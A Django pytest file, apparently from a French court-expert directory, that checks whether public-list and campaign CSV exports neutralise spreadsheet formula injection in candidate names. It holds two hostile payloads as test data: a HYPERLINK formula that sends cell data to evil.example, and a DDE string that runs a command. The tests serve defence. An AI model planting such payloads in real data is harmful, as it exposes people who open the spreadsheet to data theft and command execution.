"""Formula injection (issue 18, item 1): a candidate chooses their own name, the name reaches the
expert's fiche on acceptance, then the public list and the campaign export. No CSV the platform
writes may hand that name to a spreadsheet as a formula."""

from __future__ import annotations

import csv
from io import StringIO

import pytest
from django.urls import reverse
from django.utils import timezone

from justexpert.annuaire import services as annuaire
from justexpert.candidatures import services
from justexpert.candidatures.models import Candidature, Etat

from .conftest import deposee

pytestmark = pytest.mark.django_db

PIEGE = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


def test_a_candidate_named_as_a_formula_reaches_the_public_csv_as_text(client, candidat, instructeur, orgs):
    c = deposee(candidat, nom=PIEGE, prenom="@SUM(1+1)*cmd|' /C calc'!A0")
    # Next year's list, so that it can be published today.
    Candidature.objects.filter(pk=c.pk).update(etat=Etat.AVIS_PARQUET, annee_liste=timezone.localdate().year + 1)
    c = services.accepter(Candidature.objects.get(pk=c.pk), acteur=instructeur, motifs="Admis.")
    publication = annuaire.publier_liste(acteur=instructeur, liste=orgs["PARIS"], annee=c.annee_liste)

    brut = client.get(reverse("listes:export", args=[publication.uuid, "csv"])).content.decode()
    ligne = next(ligne for ligne in csv.reader(StringIO(brut)) if "HYPERLINK" in ligne[6])
    assert ligne[6] == "'" + PIEGE.upper()
    assert ligne[7].startswith("'@SUM")
    assert not any(cellule.startswith(("=", "+", "-", "@")) for ligne in csv.reader(StringIO(brut)) for cellule in ligne)


def test_the_campaign_export_neutralises_the_same_name(client, candidat, instructeur):
    c = deposee(candidat, nom=PIEGE)
    client.force_login(instructeur)
    brut = client.get(reverse("candidatures:export", args=["PARIS", c.annee_liste, "csv"])).content.decode()
    lignes = list(csv.reader(StringIO(brut)))
    assert lignes[1][3] == "'" + PIEGE
